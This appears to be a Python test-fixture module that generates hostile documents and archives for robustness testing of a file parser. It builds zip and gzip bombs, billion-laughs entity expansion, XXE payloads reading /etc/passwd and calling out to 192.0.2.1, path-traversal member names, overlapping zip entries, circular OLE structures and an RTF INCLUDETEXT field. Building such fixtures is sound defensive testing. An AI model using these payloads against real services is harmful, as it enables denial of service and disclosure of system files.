"""Archives and what is one inside: bombs, entities, paths that lead out, structures that go in circles."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Iterator, Mapping
from random import Random

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a11 SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://192.0.2.1/b"> %b;]>'
_MIME_ODT = "application/vnd.oasis.opendocument.text"
_MEGA = 2**20


def zipped(members: Mapping[str, bytes | str], stored: tuple[str, ...] = ()) -> bytes:
    """Write an archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def word(body: bytes | str, **more: bytes | str) -> bytes:
    """Write a Word file around the whole of its main part."""
    return zipped({"[Content_Types].xml": _TYPES, "word/document.xml": body, **more})


def paragraphs(inner: str, head: str = '<?xml version="1.0"?>') -> str:
    """Give a Word file's main part."""
    return f'{head}<w:document xmlns:w="{_W}"><w:body>{inner}</w:body></w:document>'


def odt(content: bytes | str) -> bytes:
    """Write an OpenDocument text."""
    return zipped({"mimetype": _MIME_ODT, "content.xml": content}, stored=("mimetype",))


def ofd(entry: bytes | str, **more: bytes | str) -> bytes:
    """Write an OFD file."""
    return zipped({"OFD.xml": entry, **more})


def _run(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def word_files() -> Iterator[tuple[str, bytes]]:
    """Yield Word files."""
    yield "bomb.docx", word(b" " * (300 * _MEGA))
    yield "bomb-xml.docx", word(paragraphs("<w:p/>" * 8_000_000))
    yield "laughs.docx", word(paragraphs(_run("&a11;"), LAUGHS))
    yield "outside.docx", word(paragraphs(_run("&a11;"), OUTSIDE))
    yield "deep.docx", word(paragraphs("<w:tbl><w:tr><w:tc>" * 3000 + _run("x") + "</w:tc></w:tr></w:tbl>" * 3000))
    spans = '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc>'
    yield "span.docx", word(paragraphs(f"<w:tbl>{f'<w:tr>{spans}</w:tr>' * 50}</w:tbl>"))
    yield "wide.docx", word(paragraphs(f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 200_000}</w:tr></w:tbl>"))
    relations = (
        f'<Relationships xmlns="{_RELS}"><Relationship Id="r1" Type="{_OFFICE}/styles" Target="../../../../etc/passwd"/>'
        f'<Relationship Id="r2" Type="{_OFFICE}/image" Target="http://192.0.2.1/x.png" TargetMode="External"/>'
        f'<Relationship Id="r3" Type="{_OFFICE}/comments" Target="document.xml"/></Relationships>'
    )
    yield "relations.docx", word(paragraphs(_run("x")), **{"word/_rels/document.xml.rels": relations})
    based = '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style>'
    circle = f'<w:styles xmlns:w="{_W}">{based}{based.replace("A", "C").replace("B", "A").replace("C", "B")}</w:styles>'
    styled = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'
    yield "styles.docx", word(paragraphs(styled), **{"word/styles.xml": circle})
    yield "none.docx", zipped({"[Content_Types].xml": _TYPES})
    yield "names.docx", zipped({"[Content_Types].xml": _TYPES, "../../word/document.xml": "x", "/etc/passwd": "x"})


def other_packages() -> Iterator[tuple[str, bytes]]:
    """Yield OpenDocument, OFD and flat XML."""
    body = "<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'>&a11;</office:document-content>"
    yield "laughs.odt", odt(LAUGHS + body)
    yield "outside.odt", odt(OUTSIDE + body)
    yield "bomb.odt", odt(b"<a>" + b" " * (200 * _MEGA))
    entry = "<ofd:OFD xmlns:ofd='http://www.ofdspec.org/2016'><ofd:DocBody><ofd:DocRoot>{}</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
    yield "laughs.ofd", ofd(LAUGHS + entry.format("&a11;"))
    yield "outside.ofd", ofd(OUTSIDE + entry.format("&a11;"))
    yield "bomb.ofd", ofd(b"<a>" + b" " * (200 * _MEGA))
    yield "circle.ofd", ofd(entry.format("OFD.xml"))
    yield "paths.ofd", ofd(entry.format("../../../etc/passwd"))
    pages = "".join(f"<ofd:Page ID='{i}' BaseLoc='p.xml'/>" for i in range(20_000))
    document = f"<ofd:Document xmlns:ofd='http://www.ofdspec.org/2016'><ofd:Pages>{pages}</ofd:Pages></ofd:Document>"
    area = "<ofd:Area><ofd:PhysicalBox>0 0 1e9 1e9</ofd:PhysicalBox></ofd:Area>"
    page = f"<ofd:Page xmlns:ofd='http://www.ofdspec.org/2016'>{area}</ofd:Page>"
    yield "pages.ofd", ofd(entry.format("d.xml"), **{"d.xml": document, "p.xml": page})
    yield "laughs.xml.doc", (LAUGHS + "<w:wordDocument>&a11;</w:wordDocument>").encode()


def archives(good: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield archives; ``good`` is a report as text, to which each of its places adds a line."""
    yield "bomb.zip", zipped({"a.txt": bytes(100 * _MEGA), "good.txt": good + b"\nbomb.zip\n"})
    nested = zipped({"a.txt": good})
    for _ in range(10):
        nested = zipped({"a.zip": nested})
    yield "nested.zip", nested
    yield "members.zip", zipped({f"{i}.txt": "x" for i in range(20_000)})
    yield "ignored.zip", zipped({f"{i}.css": "x" for i in range(100_000)})
    names = (
        "../../outside.txt",
        "/absolute.txt",
        "..\\..\\back.txt",
        "C:\\drive.txt",
        "new\nline.txt",
        "-rf",
        "~",
        "=1+1.txt",
    )
    yield "names.zip", zipped({name: good + f"\n第{i}号\n".encode() for i, name in enumerate(names)})
    yield "overlap.zip", overlapping(bytes(9 * _MEGA), 2000)
    yield "damaged.zip", b"PK\x03\x04" + Random(1).randbytes(5000)
    yield "bomb.gz", gzip.compress(bytes(500 * _MEGA), 6)
    yield "nested.gz", gzip.compress(gzip.compress(gzip.compress(good)))
    yield "laughs.gz", gzip.compress((LAUGHS + "<html>&a11;</html>").encode())


def overlapping(data: bytes, count: int) -> bytes:
    """Write an archive whose ``count`` members are one and the same."""
    whole = zipped({"00000.txt": data})
    start = whole.index(b"PK\x01\x02")
    size = whole.index(b"PK\x05\x06") - start
    entry = whole[start : start + size]
    entries = b"".join(entry.replace(b"00000.txt", b"%05d.txt" % i) for i in range(count))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entries), start, 0)
    return whole[:start] + entries + end


def containers() -> Iterator[tuple[str, bytes]]:
    """Yield old Office containers and RTF."""
    magic = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    head = struct.pack("<16xHHHHH6xLLL4xLLLLL", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    fat = struct.pack("<L", 0) + b"\xff" * 432
    circle = struct.pack("<128L", 0xFFFFFFFD, 1, *[1] * 126)
    entry = "Root Entry".encode("utf-16-le").ljust(64, b"\0") + struct.pack(
        "<HBBLLL36xLLL", 22, 5, 1, 1, 1, 1, 1, 99999, 0
    )
    yield "circle.doc", (magic + head + fat)[:512].ljust(512, b"\xff") + circle + entry.ljust(512, b"\0") * 4
    yield "sectors.doc", (magic + head).ljust(512, b"\0") + b"\0" * 2000
    yield "random.doc", magic + Random(3).randbytes(9000)
    yield "deep.rtf", b"{\\rtf1" + b"{\\b " * 200_000
    yield (
        "field.rtf",
        b'{\\rtf1 {\\field{\\*\\fldinst INCLUDETEXT "/etc/passwd"}{\\fldrslt x}} {\\object\\objdata 0102}}',
    )
